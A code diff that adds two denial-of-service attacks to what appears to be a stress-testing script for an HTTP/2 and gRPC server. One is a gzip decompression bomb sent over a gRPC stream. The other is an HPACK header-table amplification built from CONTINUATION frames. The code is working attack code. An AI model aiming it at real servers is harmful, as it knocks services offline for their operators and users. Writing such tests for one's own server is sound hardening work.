@@ -2,6 +2,7 @@
 
     hostile.py KIND PORT CONNECTIONS SECONDS     an attack, as a process of its own
 """
+import gzip
 import select
 import socket
 import struct
@@ -242,7 +243,54 @@ class Streams(Attack):
             yield
 
 
-KINDS = {"heads": Heads, "halves": Halves, "streams": Streams}
+class Packed(Attack):
+    """Watch messages of 2 MiB that come as 2 KB of gzip each."""
+
+    def script(self):
+        raw = gzip.compress(text(15, bytes((2 << 20) - 64)), 9)  # a field that nobody knows
+        peer, whole = self.peer, b"\1" + struct.pack(">I", len(raw)) + raw
+        stream, peer.next_stream = peer.next_stream, peer.next_stream + 2
+        peer.streams[stream] = lambda *_: None
+        peer.send(frame(HEADERS, END_HEADERS, stream, peer.head(WATCH) + rawh2._field(b"grpc-encoding", b"gzip")))
+        out = b""
+        while stream in peer.streams:
+            out = out or whole * 30
+            n = min(peer.window, peer.windows.get(stream, 65535), 16384, len(out))
+            if n > 0:
+                peer.send(frame(DATA, 0, stream, out[:n]))
+                out = out[n:]
+                peer.window -= n
+                peer.windows[stream] = peer.windows.get(stream, 65535) - n
+            yield
+
+
+class Bombs(Attack):
+    """Heads of 131 KB that stand for 500 MB: each byte is a field of 3.9 KB in the table."""
+    CONTINUATION = 9
+
+    def script(self):
+        peer, value = self.peer, b"A" * 3900
+        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, peer.next_stream,
+                        peer.head(RANGE) + b"\x40\x03x-p\x7f" + varint(len(value) - 127) + value))
+        while True:
+            peer.next_stream += 2
+            parts = [frame(HEADERS, 0, peer.next_stream, peer.head(RANGE) + b"\xbe" * 15000)]
+            parts += [frame(self.CONTINUATION, 0, peer.next_stream, b"\xbe" * 16384)] * 6
+            parts += [frame(self.CONTINUATION, END_HEADERS, peer.next_stream, b"\xbe" * 16384)]
+            peer.socket.setblocking(False)
+            out = b"".join(parts)
+            while out and not peer.closed:
+                try:
+                    out = out[peer.socket.send(out):]
+                except BlockingIOError:
+                    yield
+                except OSError:
+                    peer.lose()
+            peer.socket.setblocking(True)
+            yield
+
+
+KINDS = {"heads": Heads, "halves": Halves, "streams": Streams, "packed": Packed, "bombs": Bombs}
 
 
 def attack(kind, port, connections, seconds):
